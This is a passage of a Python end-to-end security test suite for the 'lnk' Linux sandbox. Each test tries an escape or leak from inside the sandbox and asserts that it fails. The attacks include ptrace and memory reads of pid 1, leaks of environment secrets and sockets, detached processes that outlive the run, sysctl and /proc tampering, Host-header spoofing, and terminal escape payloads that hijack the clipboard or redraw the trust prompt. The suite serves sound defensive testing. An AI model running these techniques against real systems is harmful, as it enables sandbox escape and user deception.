           "BASH_ENV": "/s3cr3t-bashenv", "PROMPT_COMMAND": "s3cr3t",
           "PYTHONSTARTUP": "/s3cr3t.py", "DBUS_SESSION_BUS_ADDRESS":
           "unix:path=/s3cr3t", "XDG_RUNTIME_DIR": "/run/user/s3cr3t"}
    cp = py(lnk, """
        import os
        print("\\n".join(f"{k}={v}" for k, v in os.environ.items()))
        print(open("/proc/self/environ", "rb").read())
        try:
            print(open("/proc/1/environ", "rb").read())
        except OSError:
            pass
    """, env=env)
    assert cp.returncode == 0, cp.stderr
    assert "s3cr3t" not in cp.stdout, cp.stdout


def test_inherited_sockets_do_not_leak(lnk, home):
    """Threat: a host socket fd (agent, listening TCP) left open into the box."""
    a, b = socket.socketpair()
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    dfd = os.open(str(home), os.O_RDONLY | os.O_DIRECTORY)
    try:
        cp = sh(lnk, "ls /proc/self/fd; readlink /proc/self/fd/* 2>/dev/null",
                pass_fds=(a.fileno(), b.fileno(), lst.fileno(), dfd))
    finally:
        for s_ in (a, b, lst):
            s_.close()
        os.close(dfd)
    assert "socket:" not in cp.stdout, cp.stdout
    assert str(home) not in cp.stdout
    fds = [l for l in cp.stdout.split() if l.isdigit()]
    assert all(int(x) <= 3 for x in fds), cp.stdout  # 0-2 and ls's own dir


# =============================================================================
# Invariant 5: processes
# =============================================================================

def test_nothing_keeps_running_after_the_program_exits(lnk, work):
    """Threat: double fork + setsid + ignored signals outlive lnk."""
    marker = f"4242.{os.getpid()}"
    cp = py(lnk, f"""
        import os, signal
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(s, signal.SIG_IGN)
                os.execv("/bin/sleep", ["sleep", "{marker}"])
            os._exit(0)
        if os.fork() == 0:  # and one that is never waited for
            os.execv("/bin/sleep", ["sleep", "{marker}"])
        print("bye")
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    time.sleep(0.5)
    left = subprocess.run(["pgrep", "-f", f"sleep {marker}"],
                          capture_output=True, text=True).stdout.split()
    for pid in left:
        os.kill(int(pid), signal.SIGKILL)
    assert left == [], "processes outlived lnk"


def test_host_processes_unreachable(lnk):
    """Threat: signal, ptrace or read the memory of host processes or pid 1."""
    host = subprocess.Popen(["sleep", "30"])
    try:
        cp = py(lnk, f"""
            import ctypes, os, signal
            libc = ctypes.CDLL(None, use_errno=True)
            for p in ({host.pid}, 1, -1):
                try:
                    os.kill(p, 0); print("SIGNAL-OK", p)
                except OSError as e:
                    print("refused", p, e.errno)
            print("ptrace", libc.ptrace(16, 1, None, None))  # ATTACH pid 1
            print("seize", libc.ptrace(0x4206, 1, None, None))
            buf = ctypes.create_string_buffer(8)
            class iov(ctypes.Structure):
                _fields_ = [("b", ctypes.c_void_p), ("l", ctypes.c_size_t)]
            l, r = iov(ctypes.addressof(buf), 8), iov(0x400000, 8)
            print("vm_readv", libc.process_vm_readv(1, ctypes.byref(l), 1,
                                                     ctypes.byref(r), 1, 0))
            print("pidfd", libc.syscall(434, {host.pid}, 0))
        """)
        assert host.poll() is None
    finally:
        host.kill()
        host.wait()
    assert f"SIGNAL-OK {host.pid}" not in cp.stdout, cp.stdout
    assert "SIGNAL-OK 1" not in cp.stdout, cp.stdout
    for k in ("ptrace", "seize", "vm_readv", "pidfd"):
        assert f"{k} -1" in cp.stdout, cp.stdout


def test_no_unconfined_process_inside(lnk, work):
    """Threat: a process inside without seccomp or Landlock (bwrap's own
    reaper, or a process a guard hole could write code into). Every
    process inside, pid 1 included, has the filter and NO_NEW_PRIVS, and
    pid 1 is lnk-init, not bwrap. With the dot-file guard and the wire's
    listeners on, the two paths where init does the most."""
    cp = py(lnk, """
        import os, subprocess
        bg = subprocess.Popen(["/bin/sleep", "30"])
        print("pid1", open("/proc/1/cmdline").read().split(chr(0))[0])
        for p in sorted((x for x in os.listdir("/proc") if x.isdigit()),
                        key=int):
            try:
                st = open(f"/proc/{p}/status").read()
            except OSError:
                continue
            f = dict(l.split(":", 1) for l in st.splitlines())
            print("proc", p, f["Name"].strip(), "Seccomp:" +
                  f["Seccomp"].strip(), "nnp:" + f["NoNewPrivs"].strip())
        bg.kill()
    """, "--write", work, "--internet-host", "*")
    assert cp.returncode == 0, cp.stderr
    procs = [l for l in cp.stdout.splitlines() if l.startswith("proc ")]
    assert "pid1 /run/lnk/init" in cp.stdout, cp.stdout
    assert procs[0].startswith("proc 1 init "), cp.stdout
    assert len(procs) >= 3, cp.stdout  # init, python, sleep
    assert all(l.endswith(" Seccomp:2 nnp:1") for l in procs), cp.stdout


def test_pid1_holds_no_descriptor(lnk, work):
    """Threat: pid 1 keeps the config memfd, the wire or guard socket,
    for a program that gets into it to use. Read from outside, on the
    host's /proc (pid 1 is non-dumpable: only root may look)."""
    if not IS_ROOT:
        pytest.skip("pid 1 is non-dumpable: its descriptors are root's "
                    "to list (as root, the run does)")
    p = subprocess.Popen(
        [LNK, "sandbox", "run", "--write", str(work), "--internet-host",
         "*", "--", "/bin/sh", "-c", "echo ready; read x"],
        cwd=str(work), env=lnk.env(), stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def children(pid):
        out = []
        for d in filter(str.isdigit, os.listdir("/proc")):
            try:
                st = pathlib.Path(f"/proc/{d}/stat").read_text()
            except OSError:
                continue
            name, rest = st.split("(", 1)[1].rsplit(")", 1)
            if int(rest.split()[1]) == pid:
                out.append((int(d), name))
        return out
    try:
        assert p.stdout.readline().strip() == "ready"
        bwrap = [c for c, n in children(p.pid) if n == "bwrap"]
        assert len(bwrap) == 1, children(p.pid)
        init = children(bwrap[0])
        assert [n for _, n in init] == ["init"], init
        fds = sorted(os.listdir(f"/proc/{init[0][0]}/fd"), key=int)
        # 10: the lifeline (LAUNCH_FD_LIFELINE), a pipe's read end
        life = os.readlink(f"/proc/{init[0][0]}/fd/10")
        status = pathlib.Path(f"/proc/{init[0][0]}/status").read_text()
        p.communicate("x\n", timeout=20)
    finally:
        if p.poll() is None:
            p.kill()
    assert fds == ["0", "1", "2", "10"], fds
    assert life.startswith("pipe:"), life
    assert "Seccomp:\t2" in status and "NoNewPrivs:\t1" in status


def test_kernel_surfaces_refused(lnk):
    """Threat: kernel attack surface and namespace escapes from inside.
    Every refusal the seccomp policy lists (its own table,
    src/init/seccomp_policy.c, as try_syscall --list prints it) is tried in
    one `lnk sandbox run`, with arguments the kernel itself would answer
    otherwise (tests/e2e/test_init.py proves that per call): each must get
    the policy's errno."""
    try_ = helper("try_syscall")
    listed = subprocess.run([try_, "--list"], capture_output=True, text=True,
                            timeout=30, check=True).stdout.splitlines()
    want = dict(line.split("\t") for line in listed)
    assert len(want) > 60 and "add_key" in want, want
    script = ('t=$1; shift; for n in "$@"; do '
              'printf "%s\\t" "$n"; "$t" "$n"; done')
    cp = lnk.run("--read", HELPERS, "--", "/bin/sh", "-c", script, "sh",
                 try_, *want, timeout=120)
    got = dict(line.split("\t", 1) for line in cp.stdout.splitlines()
               if "\t" in line)
    for name, e in want.items():
        assert got.get(name) == f"errno {e}", (name, got.get(name),
                                                cp.stderr)


def test_fifo_flood_on_supervisor_does_not_hang_lnk(lnk, work):
    """Threat: blocked FIFO opens tie up the supervisor so lnk never exits."""
    cp = py(lnk, """
        import os, threading, time
        for i in range(200):
            os.mkfifo("f%d" % i)
        for i in range(200):
            threading.Thread(target=os.open, args=("f%d" % i,
                             os.O_RDONLY | os.O_CREAT), daemon=True).start()
        time.sleep(1)
        print("leaving", flush=True)
        os._exit(7)
    """, "--write", work, timeout=60)
    assert cp.returncode == 7, cp.stderr


def test_create_still_works_after_a_fifo_flood(lnk, work):
    """Threat: 300 blocked FIFO opens with O_CREAT tie up every supervisor
    worker, so every later creation in the sandbox hangs."""
    cp = py(lnk, """
        import os, signal, threading, time
        for i in range(300):
            os.mkfifo("f%d" % i)
        def hold(i):
            try:
                os.open("f%d" % i, os.O_RDONLY | os.O_CREAT)
            except OSError:
                pass
        for i in range(300):
            threading.Thread(target=hold, args=(i,), daemon=True).start()
        time.sleep(2)
        signal.alarm(20)  # a hang kills us (exit 142), never the suite
        os.close(os.open("after", os.O_CREAT | os.O_WRONLY, 0o644))
        os.mkdir("dir-after")
        print("CREATED", flush=True)
        os._exit(0)
    """, "--write", work, timeout=90)
    assert "CREATED" in cp.stdout, (cp.returncode, cp.stdout, cp.stderr)
    assert (work / "after").exists() and (work / "dir-after").is_dir()


# =============================================================================
# Invariant 6: policy travels only outward-in
# =============================================================================

def test_lnk_settings_untouchable_with_home_write(lnk, home):
    """Threat: --write '~' then move, replace or write into ~/.lnk."""
    (home / ".lnk" / "specs").mkdir(parents=True)
    spec = home / ".lnk" / "specs" / "sandbox.toml"
    spec.write_text("# the user's accepted specs\n")
    # lnk keeps files of its own in ~/.lnk (caches, the log): let it make
    # them first, so what the program does is all that differs.
    lnk.run("--write", home, "--", "true", check=True)
    before = sorted(str(p) for p in (home / ".lnk").rglob("*"))
    cp = sh(lnk, """
        ls -la ~/.lnk; cat ~/.lnk/specs/sandbox.toml
        echo evil > ~/.lnk/specs/sandbox.toml; mkdir -p ~/.lnk/specs
        mv ~/.lnk ~/lnk-moved; rm -rf ~/.lnk; ln -s /tmp ~/.lnk/x
        python3 -c 'import os; os.rename(os.path.expanduser("~/.lnk"), "/tmp/x")'
        true""", "--write", home)
    assert "the user's accepted specs" not in cp.stdout
    assert spec.read_text() == "# the user's accepted specs\n"
    assert sorted(str(p) for p in (home / ".lnk").rglob("*")) == before
    assert not (home / "lnk-moved").exists()


def test_log_holds_no_path_headers_or_body(lnk, home):
    """Threat (invariant 7): secrets in a request's path/headers reach the log."""
    f = nethosts()
    cp = sh(lnk, "curl -s -H 'Authorization: Bearer s3cr3t-hdr' "
                 "-d s3cr3t-body 'http://origin.lnk-test/s3cr3t-path?"
                 "q=s3cr3t-query' >/dev/null; curl -s "
                 "'http://origin.lnk-test/hello.txt?token=s3cr3t-q2'",
            "--internet-host", "origin.lnk-test",
            env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    assert "hello from origin" in cp.stdout, cp.stdout + cp.stderr
    log = lnk("sandbox", "log", "--json", "--lines", "100")
    assert "origin.lnk-test" in log.stdout, log.stdout + log.stderr
    assert "s3cr3t" not in log.stdout
    for p in (home / ".lnk").rglob("*"):
        if p.is_file():
            assert b"s3cr3t" not in p.read_bytes(), p


# --- the wire: this machine and its network, Host, a full log disk ---
#
# Whether an address is this machine or its network is the kernel's route
# answer for it, per call: a local route (an address gained while the
# sandbox runs, AnyIP) is this machine, an on-link neighbour or the gateway
# is its network, whatever the address's number says. The test hosts sit
# behind a router (tests/e2e/nethosts.sh) so that they are not on-link.

def wire_net(lnk, script, *grants):
    f = nethosts()
    return sh(lnk, script, *grants, timeout=120,
              env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]}), f


def refused_reasons(lnk):
    """target -> reason of each refused call; a lookup's target ("NAME
    TYPE") by its name."""
    out = lnk("sandbox", "log", "--json", "--refused", "--lines", "200").stdout
    return {(r["target"].split(" ")[0] if r["verb"] == "dns"
             else r["target"]): r["reason"]
            for r in map(json.loads, out.splitlines())}


def test_star_never_reaches_local_routes_or_on_link(lnk):
    """Threat: '*' or a host pattern reaches an address the routing table
    delivers to this machine (a local route on no interface) or a
    neighbour on a directly connected network (the router)."""
    f = nethosts()
    targets = [f["ANYIP_IP"], "anyip.lnk-test", f["HOST_SIDE_IP"],
               f["ROUTER_IP"], "router.lnk-test"]
    script = f"curl -s -w ' ok %{{http_code}}\\n' http://{f['ORIGIN_IP']}/hello.txt; "
    for t in targets:
        script += (f"curl -s -w ' {t} %{{http_code}}\\n' "
                   f"http://{t}/secret.txt; "
                   f"curl -s -w ' socks-{t} %{{http_code}}\\n' -x "
                   f"socks5h://127.0.0.1:1080 http://{t}/secret.txt; ")
    cp, _ = wire_net(lnk, script, "--internet-host", "*")
    assert "hello from origin" in cp.stdout, cp.stdout + cp.stderr
    assert "ok 200" in cp.stdout, cp.stdout + cp.stderr
    assert "a server of this machine" not in cp.stdout, cp.stdout
    for t in targets:
        assert f" {t} 403" in cp.stdout, cp.stdout + cp.stderr
        assert f"socks-{t} 200" not in cp.stdout, cp.stdout
    reasons = refused_reasons(lnk)
    assert reasons[f"{f['ANYIP_IP']}:80"] == "address of this machine"
    assert reasons["anyip.lnk-test:80"] == "address of this machine"
    assert reasons[f"{f['ROUTER_IP']}:80"] == \
        "address on this machine's network, not the internet"
    # a host pattern that names them is no way around
    cp, _ = wire_net(lnk, "curl -s -w ' p %{http_code}\\n' "
                     "http://anyip.lnk-test/secret.txt; "
                     "curl -s -w ' r %{http_code}\\n' http://router.lnk-test/",
                     "--internet-host", "*.lnk-test")
    assert " p 403" in cp.stdout and " r 403" in cp.stdout, cp.stdout
    assert "a server of this machine" not in cp.stdout


def test_address_gained_while_running_is_this_machine(lnk, work):
    """Threat: an address this machine gains while a sandbox runs (DHCP, a
    VPN, IPv6 privacy addresses) counts as internet, and a host server
    listening on it answers the sandbox."""
    if not IS_ROOT:
        pytest.skip("adding an address to this machine needs root; the "
                    "local-route test above makes the same attack as "
                    "this user with an address root set up beforehand")
    f = nethosts()
    addr = "198.18.5.1"
    ready, go = work / "ready", work / "go"
    script = (f"curl -s -w ' before %{{http_code}}\\n' "
              f"http://{f['ORIGIN_IP']}/hello.txt; touch {ready}; "
              f"while [ ! -e {go} ]; do sleep 0.1; done; "
              f"curl -s -w ' gained %{{http_code}}\\n' http://{addr}/secret.txt; "
              f"curl -s -w ' socks %{{http_code}}\\n' -x socks5h://127.0.0.1:1080 "
              f"http://{addr}/secret.txt")
    env = lnk.env({"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    p = subprocess.Popen([lnk.bin, "sandbox", "run", "--write", str(work),
                          "--internet-host", "*", "--", "/bin/sh", "-c",
                          script], cwd=str(work), env=env, text=True,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    srv = None
    try:
        for _ in range(600):
            if ready.exists() or p.poll() is not None:
                break
            time.sleep(0.1)
        assert ready.exists(), p.communicate(timeout=30)
        subprocess.run(["ip", "addr", "add", f"{addr}/32", "dev", "lo"],
                       check=True)
        d = work.parent / "gained-www"
        d.mkdir()
        (d / "secret.txt").write_text("HOST-SECRET on a gained address\n")
        srv = subprocess.Popen([PY, "-m", "http.server", "80", "--bind", addr,
                                "--directory", str(d)],
                               stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
        serving = False
        for _ in range(100):
            c = subprocess.run(["curl", "-s", "--max-time", "1",
                                f"http://{addr}/secret.txt"],
                               capture_output=True, text=True)
            serving = "HOST-SECRET" in c.stdout
            if serving:
                break
            time.sleep(0.1)
        go.touch()
        assert serving, "the host server on the gained address did not start"
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
        if srv:
            srv.kill()
            srv.wait()
        subprocess.run(["ip", "addr", "del", f"{addr}/32", "dev", "lo"],
                       capture_output=True)
    assert "before 200" in out, out + err
    assert "HOST-SECRET" not in out, out
    assert "gained 403" in out, out + err
    assert refused_reasons(lnk)[f"{addr}:80"] == "address of this machine"


def test_host_header_is_the_checked_host(lnk):
    """Threat: absolute-form GET http://granted/ with Host: another site is
    logged as the granted host but picks another site on a shared
    address (virtual hosts, a CDN)."""
    f = nethosts()
    port = f["ECHO_HOST_PORT"]
    url = f"http://origin.lnk-test:{port}/"
    code = PROXY_PRELUDE + textwrap.dedent(f"""
        print(raw(3128, b"GET {url} HTTP/1.1\\r\\nHost: other.lnk-test\\r\\n"
                  b"Host: evil.example\\r\\n\\r\\n"))
        print(raw(3128, b"GET {url} HTTP/1.1\\r\\nhOST: other.lnk-test\\r\\n\\r\\n"))
        print(raw(3128, b"GET {url} HTTP/1.0\\r\\n\\r\\n"))
    """)
    cp = lnk.run("--internet-host", "origin.lnk-test", "--", PY, "-c", code,
                 timeout=60, env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    got = [l for l in cp.stdout.splitlines() if "host=" in l]
    assert cp.stdout.count(f"host=origin.lnk-test:{port}\\n") == 3, \
        cp.stdout + cp.stderr
    assert "other.lnk-test" not in cp.stdout and "evil" not in cp.stdout, got
    # curl's own -H Host, through the proxy settings lnk gives
    cp = sh(lnk, f"curl -s -H 'Host: other.lnk-test' {url}",
            "--internet-host", "origin.lnk-test",
            env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    assert cp.stdout.strip() == f"host=origin.lnk-test:{port}", \
        cp.stdout + cp.stderr


@pytest.fixture
def small_home(tmp_path):
    """A HOME on a file system of a few MB, shared by ~/.lnk and a write
    folder, so the program can fill what the log needs."""
    if not IS_ROOT:
        pytest.skip("mounting a small file system for HOME needs root; the "
                    "wire and its log behave the same for every user")
    h = tmp_path / "small-home"
    h.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=12m,mode=0700",
                    "lnk-test-small-home", str(h)], check=True)
    try:
        yield h
    finally:
        subprocess.run(["umount", "-l", str(h)], capture_output=True)


def test_full_disk_no_call_unlogged(small_home):
    """Threat: the program fills the file system holding ~/.lnk, then
    makes calls: they are carried but never logged."""
    from conftest import Lnk
    f = nethosts()
    work = small_home / "work"
    work.mkdir()
    lnk = Lnk(small_home, work)
    url = f"http://origin.lnk-test/hello.txt"
    script = f"""
        c() {{ curl -s -o /dev/null -w '%{{http_code}}' {url}; }}
        echo "start $(c)"
        head -c 100M /dev/zero > {work}/fill 2>/dev/null
        i=0; while [ $i -lt 200 ]; do
            r=$(c); echo "full $r"; [ "$r" = 503 ] && break
            i=$((i + 1)); sleep 0.1
        done
        curl -s {url} | head -c 200; echo
        curl -s -w ' socks %{{http_code}}\\n' -o /dev/null \\
            -x socks5h://127.0.0.1:1080 {url}
        rm {work}/fill
        i=0; while [ $i -lt 200 ]; do
            r=$(c); echo "after $r"; [ "$r" = 200 ] && break
            i=$((i + 1)); sleep 0.1
        done
    """
    cp = sh(lnk, script, "--write", work, "--internet-host", "origin.lnk-test",
            timeout=180, env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    out = cp.stdout
    assert "start 200" in out, out + cp.stderr
    assert "full 503" in out, out + cp.stderr
    assert "the call log cannot be written" in out, out
    assert "socks 000" in out or "socks 200" not in out, out
    assert "after 200" in out, out + cp.stderr
    assert "the call log cannot be written" in cp.stderr, cp.stderr
    assert "the call log is written again" in cp.stderr, cp.stderr
    carried = sum(1 for l in out.splitlines()
                  if l.split()[-1:] == ["200"] and l.split()[0] in
                  ("start", "full", "after"))
    carried += out.count("hello from origin")
    refused = out.count("full 503")
    log = lnk("sandbox", "log", "--json", "--lines", "1000")
    rows = [json.loads(l) for l in log.stdout.splitlines()]
    calls = [r for r in rows if r["target"] == "origin.lnk-test:80"]
    done = [r for r in calls if r["outcome"] in ("ended", "allowed")]
    down = [r for r in calls if r["outcome"] == "refused"
            and r["reason"] == "the call log cannot be written"]
    # every call carried is logged; the refusals too, once space returned
    assert len(done) == carried, (out, rows)
    assert len(down) >= refused + 2, (out, rows)

# --- root and resources: what uid 0 without capabilities still owns ---
#
# Run as root, the program's uid 0 is the host's root, without capabilities.
# The kernel still lets the owner of an object change it: every sysctl, every
# /proc entry, the device nodes bwrap binds from the host. Each test runs as
# a user too, where the kernel's own checks must hold the same.

def test_kernel_settings_unwritable(lnk):
    """Threat: as root, write kernel.core_pattern (the next crash runs the
    program's file as root outside), or any other sysctl, sysrq, binfmt."""
    cp = py(lnk, """
        import os
        opened, tried = [], 0
        paths = ["/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register"]
        for dp, dn, fn in os.walk("/proc/sys"):
            paths += [os.path.join(dp, f) for f in fn]
        for p in paths:
            try:
                # O_APPEND without O_TRUNC: opened, nothing is written
                fd = os.open(p, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK)
            except OSError:
                tried += 1
                continue
            os.close(fd)
            opened.append(p)
        print("tried", tried, "opened", opened)
    """)
    assert cp.returncode == 0, cp.stderr
    assert "tried" in cp.stdout and "opened []" in cp.stdout, cp.stdout
    assert int(cp.stdout.split()[1]) > 100, cp.stdout


def test_proc_self_write_refused_as_read_only_with_a_folder(lnk, work):
    """With a folder granted every open that writes goes to the guard,
    which cannot resolve /proc/self (the task's, not its own): such a
    write fails as on the read-only /proc, with EROFS, not as a missing
    file; /proc/self/fd/N still names the task's descriptor."""
    cp = py(lnk, """
        import os
        for p in ("/proc/self/oom_score_adj", "/proc/thread-self/comm",
                  "/proc/self/fd/1"):
            try:
                os.close(os.open(p, os.O_WRONLY))
                print(p, "opened")
            except OSError as e:
                print(p, e.errno)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "/proc/self/oom_score_adj 30" in cp.stdout, cp.stdout
    assert "/proc/thread-self/comm 30" in cp.stdout, cp.stdout
    assert "/proc/self/fd/1 opened" in cp.stdout, cp.stdout


def test_proc_entries_keep_their_mode_and_owner(lnk):
    """Threat: as root, chmod a /proc file: every /proc of the machine
    shares the entry, so /proc/timer_list or /proc/slabinfo becomes readable
    to every user outside (tried with the mode and owner each has: no
    change even when it works)."""
    cp = py(lnk, """
        import os, stat
        changed = []
        for n in sorted(os.listdir("/proc")):
            p = "/proc/" + n
            if n[0].isdigit() or os.path.islink(p):
                continue
            try:
                st = os.stat(p)
            except OSError:
                continue
            for what, f in (
                    ("chmod", lambda: os.chmod(p, stat.S_IMODE(st.st_mode))),
                    ("chown", lambda: os.chown(p, st.st_uid, st.st_gid)),
                    ("utime", lambda: os.utime(p, ns=(st.st_atime_ns,
                                                      st.st_mtime_ns)))):
                try:
                    f()
                    changed.append(what + " " + p)
                except OSError:
                    pass
        print("changed", changed)
    """)
    assert cp.returncode == 0, cp.stderr
    assert "changed []" in cp.stdout, cp.stdout


def test_host_keyring_not_listed(lnk):
    """Threat: the keyring outside (the user's session keyring, or root's)
    shows its keys' descriptions in /proc/keys, and keyctl reads them."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    desc = f"lnk-bait-{os.getpid()}"
    # add_key(2) to the session keyring (-3) of this test process
    kid = libc.syscall(248, b"user", desc.encode(), b"s3cr3t-key", 10, -3)
    if kid < 0:
        pytest.skip(f"cannot add a key here (errno {ctypes.get_errno()})")
    try:
        cp = py(lnk, f"""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            libc.syscall.restype = ctypes.c_long
            for p in ("/proc/keys", "/proc/key-users"):
                try:
                    print(p, open(p).read())
                except OSError as e:
                    print(p, "refused", e.errno)
            buf = ctypes.create_string_buffer(64)
            # keyctl(KEYCTL_READ), request_key(2), keyctl(GET_KEYRING_ID @s)
            print("read", libc.syscall(250, 11, {kid}, buf, 64), buf.raw)
            print("request", libc.syscall(249, b"user", b"{desc}", None, 0))
            print("session", libc.syscall(250, 0, -3, 0))
        """)
    finally:
        libc.syscall(250, 3, kid)  # KEYCTL_REVOKE
    assert cp.returncode == 0, cp.stderr
    assert desc not in cp.stdout and "s3cr3t" not in cp.stdout, cp.stdout
    for call in ("read", "request", "session"):
        assert f"{call} -1" in cp.stdout, cp.stdout


def test_no_kernel_file_system_of_the_host_mounted(lnk, work):
    """Threat: sysfs, cgroupfs, debugfs, bpffs... mounted inside, or a /proc
    or device node left writable, through which uid 0 changes the host."""
    cp = py(lnk, """
        for line in open("/proc/self/mountinfo"):
            f = line.split()
            sep = f.index("-")
            print(f[4], f[5].split(",")[0], f[sep + 1])
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    mounts = [l.split() for l in cp.stdout.splitlines()]
    assert mounts, cp.stdout
    kinds = {m[2] for m in mounts}
    assert not kinds & {"sysfs", "cgroup", "cgroup2", "debugfs", "tracefs",
                        "securityfs", "bpf", "configfs", "pstore",
                        "efivarfs", "fusectl", "binfmt_misc", "hugetlbfs",
                        "mqueue"}, kinds
    for path, opt, kind in mounts:
        if kind == "proc" or path.startswith("/proc/"):
            assert opt == "ro", (path, opt, kind)
    assert "/sys" not in {m[0] for m in mounts}


# How root's sandbox gets its own device nodes: bwrap finds lnk's copies in
# place in a view of the host of its own (src/launch/hostview.h); without
# CAP_SYS_ADMIN (a container's root), or where the kernel refuses that
# view a mount namespace, bwrap binds the copies itself.
DEVNODE_WAYS = ["view", "no-cap-sys-admin", "no-mount-namespace"]


@pytest.mark.parametrize("how", DEVNODE_WAYS)
def test_host_device_nodes_keep_their_mode_and_owner(lnk, tmp_path, how):
    """Threat: as root, chmod 0600 /dev/null inside changes the host's
    /dev/null, and every other program on the host fails to open it. Tried
    with the mode and owner each has (no change even when it works): a
    chmod that works must be on a node of the sandbox's own, never on the
    host's."""
    if how != "view":
        if not IS_ROOT:
            pytest.skip("the device nodes are copied only as root")
        wrap = tmp_path / "lnk-wrapped"
        pre = ("setpriv --inh-caps=-sys_admin --bounding-set=-sys_admin"
               if how == "no-cap-sys-admin" else helper("no_mount_ns"))
        wrap.write_text(f'#!/bin/sh\nexec {pre} {lnk.bin} "$@"\n')
        wrap.chmod(0o755)
        lnk.bin = str(wrap)
    host = {}
    for n in ("null", "zero", "full", "random", "urandom", "tty"):
        st = os.stat("/dev/" + n)
        host["/dev/" + n] = (st.st_dev, st.st_ino)
    mounts = open("/proc/self/mountinfo").read()
    cp = py(lnk, """
        import os, stat
        for line in open("/proc/self/mountinfo"):
            f = line.split()
            if f[4] == "/dev/null":
                print("mount", f[3])
        for n in sorted(os.listdir("/dev")):
            p = "/dev/" + n
            st = os.lstat(p)
            if not stat.S_ISCHR(st.st_mode):
                continue
            try:
                os.chmod(p, stat.S_IMODE(st.st_mode))
                os.chown(p, st.st_uid, st.st_gid)
            except OSError:
                continue
            print("changed", p, st.st_dev, st.st_ino)
    """)
    assert cp.returncode == 0, cp.stderr
    changed = {l.split()[1]: (int(l.split()[2]), int(l.split()[3]))
               for l in cp.stdout.splitlines() if l.startswith("changed")}
    for p, ident in changed.items():
        assert host.get(p) != ident, (p, cp.stdout)
    # Nothing of the view is left in the host's namespace.
    assert open("/proc/self/mountinfo").read() == mounts
    if not IS_ROOT:
        return
    assert changed, cp.stdout  # as root the copies are the program's
    # Which way it went: in the view, bwrap's one bind of /dev/null is of
    # the copy; otherwise it binds the host's node, then the copy over it.
    roots = [l.split()[1] for l in cp.stdout.splitlines()
             if l.startswith("mount")]
    assert all(r.startswith("/.lnk-") for r in roots[-1:]), cp.stdout
    assert len(roots) == (1 if how == "view" else 2), cp.stdout

# --- terminal escapes in lnk's own output ---
# What a file, a spec, the network or the program chose reaches the user's
# terminal only through lnk's one escaper (src/common/esc.h): no raw ESC, C1
# control, bidirectional override, invisible format character or invalid
# UTF-8 may come out of lnk, and the value is still shown (escaped).

import unicodedata

# ESC ] 0 (window title), OSC 52 (clipboard write), clear screen, the C1 CSI
# character U+009B, a right-to-left override, an isolate and a tag character.
HOSTILE = ("\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[H"
           "\u009b31m\u202e\u2066\U000e0041x")
# The same as raw bytes that are no UTF-8: a lone C1 byte, an overlong '/'.
HOSTILE_BYTES = HOSTILE.encode() + b"\x9b\xc0\xaf"


def lnk_raw(lnk, *args, input=None, env=None, timeout=120):
    """lnk ARGS with bytes out (hostile output need not be UTF-8)."""
    return subprocess.run([lnk.bin, *args], cwd=str(lnk.cwd), input=input,
                          capture_output=True, timeout=timeout,
                          env=lnk.env(env))


def assert_clean(out, what, allow_cr=False):
    """out (bytes) holds valid UTF-8 and no character a terminal acts on or
    hides, other than newline and tab."""
    try:
        text = out.decode("utf-8")
    except UnicodeDecodeError as e:
        raise AssertionError(f"{what}: not UTF-8 ({e}): {out!r}")
    for ch in text:
        c = ord(ch)
        if ch in "\n\t" or (allow_cr and ch == "\r"):
            continue
        bad = (unicodedata.category(ch) in ("Cc", "Cf")
               or 0xe0000 <= c <= 0xe007f or ch in "\u2028\u2029")
        assert not bad, f"{what}: raw U+{c:04X} reaches the terminal: {out!r}"


def plant(lnk, work, code):
    """The program writes into its folder (the attack's first step)."""
    cp = py(lnk, code, "--write", str(work))
    assert cp.returncode == 0, cp.stderr


def test_shebang_interpreter_is_escaped(lnk, work):
    """Threat: a script the program wrote names an interpreter made of
    escape sequences; lnk's refusal prints it to the user's terminal."""
    plant(lnk, work, f"""
        import os
        with open("build.sh", "wb") as f:
            f.write(b"#!/nonexistent/" + {HOSTILE_BYTES!r} + b"\\necho hi\\n")
        os.chmod("build.sh", 0o755)
    """)
    cp = lnk_raw(lnk, "sandbox", "run", "--write", str(work), "--command",
                 "sh", "--", "./build.sh")
    assert cp.returncode != 0
    assert b"is a script run by" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "run's stderr")
    assert_clean(cp.stdout, "run's stdout")
    # shown, escaped: ESC, the C1 character, the override, the raw byte
    for shown in (b"\\x1b]0;pwned\\x07", b"\\u{9b}31m", b"\\u{202e}",
                  b"\\x9b\\xc0\\xaf"):
        assert shown in cp.stderr, cp.stderr


# C1 controls (CSI 2K, CSI 1A: erase the line, go up) that would erase the
# lines before them on the terminal, and a right-to-left override.
SPOOF = "d\u009b2K\u009b1A\u009b2K\u009b1A\u009b2K\u202e"


def test_trust_question_cannot_be_redrawn(lnk, work):
    """Threat: a spec the program rewrote hides its new `hosts = ["*"]`
    from the asked-first question with C1 controls in a value. [commands]
    refuses control characters (test_spec_values_...); a folder may be
    named with them."""
    from test_terminal import read_until, spawn_on_pty, wait_status
    name = "".join(c if " " <= c < "\x7f" else "\\u%04X" % ord(c)
                   for c in SPOOF)
    spec = ('version = 1\n[commands]\nallow = ["true"]\n[files]\n'
